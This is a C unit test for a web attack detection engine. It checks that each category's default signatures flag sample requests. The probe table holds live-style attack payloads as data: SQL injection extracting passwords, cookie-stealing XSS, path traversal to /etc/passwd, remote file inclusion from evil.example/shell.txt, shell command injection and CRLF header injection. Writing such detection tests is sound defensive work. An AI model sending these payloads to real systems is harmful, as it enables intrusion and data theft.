/* Every category's detection with the default signatures: each request
 * below carries a clear payload of one category and must give a hit of that
 * very category (a hit of another category does not count), so removing a
 * category's rules, regex or detector, fails here even where another rule
 * still flags the request. */
#include <apr_strings.h>
#include "lw_test_engine.h"

typedef struct {
    int cat;
    int flags;            /* 0 for tool: named, never flagged alone */
    const char *method, *uri, *ua;
} probe_t;

#define UA_BROWSER "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"

static const probe_t probes[] = {
    { LW_CAT_SQLI, 1, "GET", "/item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", UA_BROWSER },
    { LW_CAT_SQLI, 1, "GET", "/login.php?user=admin%27%20OR%20%271%27=%271", UA_BROWSER },
    { LW_CAT_SQLI, 1, "GET", "/list.php?id=1%20AND%20SLEEP(5)", UA_BROWSER },
    { LW_CAT_XSS, 1, "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", UA_BROWSER },
    { LW_CAT_XSS, 1, "GET", "/p?name=%3Cimg%20src=x%20onerror=alert(1)%3E", UA_BROWSER },
    { LW_CAT_XSS, 1, "GET", "/go?u=javascript:alert(1)", UA_BROWSER },
    { LW_CAT_LFI, 1, "GET", "/index.php?page=../../../../etc/passwd", UA_BROWSER },
    { LW_CAT_LFI, 1, "GET", "/view?file=..%2F..%2F..%2Fwindows%2Fwin.ini", UA_BROWSER },
    { LW_CAT_LFI, 1, "GET", "/index.php?page=php://filter/convert.base64-encode/resource=index", UA_BROWSER },
    { LW_CAT_RFI, 1, "GET", "/index.php?page=http://evil.example/shell.txt?", UA_BROWSER },
    { LW_CAT_RFI, 1, "GET", "/main.php?inc=ftp://203.0.113.9/x.php", UA_BROWSER },
    { LW_CAT_RCE, 1, "GET", "/ping.php?host=127.0.0.1%3Bid", UA_BROWSER },
    { LW_CAT_RCE, 1, "GET", "/tools?ip=1.2.3.4%7Cuname%20-a", UA_BROWSER },
    { LW_CAT_RCE, 1, "GET", "/x?cmd=%24(whoami)", UA_BROWSER },
    { LW_CAT_SCANNER, 1, "GET", "/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)" },
    { LW_CAT_SCANNER, 1, "GET", "/", "gobuster/3.6" },
    { LW_CAT_PROBE, 1, "GET", "/.env", UA_BROWSER },
    { LW_CAT_PROBE, 1, "GET", "/.git/config", UA_BROWSER },
    { LW_CAT_PROBE, 1, "GET", "/phpmyadmin/index.php", UA_BROWSER },
    { LW_CAT_PROTOCOL, 1, "TRACE", "/", UA_BROWSER },
    { LW_CAT_PROTOCOL, 1, "GET", "/redirect.php?url=/%0d%0aSet-Cookie:%20session=evil", UA_BROWSER },
    { LW_CAT_TOOL, 0, "GET", "/", "python-requests/2.31.0" },
    { LW_CAT_TOOL, 0, "GET", "/", "curl/8.4.0" },
};

static int has_cat(const lw_result_t *res, int cat)
{
    int i;
    for (i = 0; i < res->nhits; i++)
        if (res->hits[i].category == cat)
            return 1;
    return 0;
}

int main(void)
{
    lw_engine_t *e;
    int seen[LW_CAT__COUNT] = { 0 };
    size_t i;
    LW_TEST_BEGIN(p);

    e = lw_test_shipped_engine(p);
    if (e == NULL) {
        CHECK(e != NULL);
        LW_TEST_END();
    }
    for (i = 0; i < sizeof(probes) / sizeof(probes[0]); i++) {
        const probe_t *t = &probes[i];
        lw_header_t h = { "User-Agent", t->ua };
        lw_request_t req;
        lw_limits_t lim;
        lw_result_t res;
        int flagged, ok;
        lw_test_request(&req, t->method, t->uri, &h, 1);
        lw_limits_default(&lim);
        flagged = lw_classify(e, &req, &lim, p, &res);
        ok = has_cat(&res, t->cat) && flagged == t->flags;
        if (!ok)
            fprintf(stderr, "%s %s (UA %s): want a %s hit%s; flagged %d, "
                    "%d hits, first %s\n", t->method, t->uri, t->ua,
                    lw_category_name(t->cat), t->flags ? ", flagged" : "",
                    flagged, res.nhits, res.nhits
                    ? lw_category_name(res.hits[0].category) : "-");
        CHECK(ok);
        seen[t->cat]++;
    }
    /* every category a rule can have is covered above */
    for (i = 0; i <= LW_CAT_TOOL; i++)
        CHECK(seen[i] > 0);
    LW_TEST_END();
}
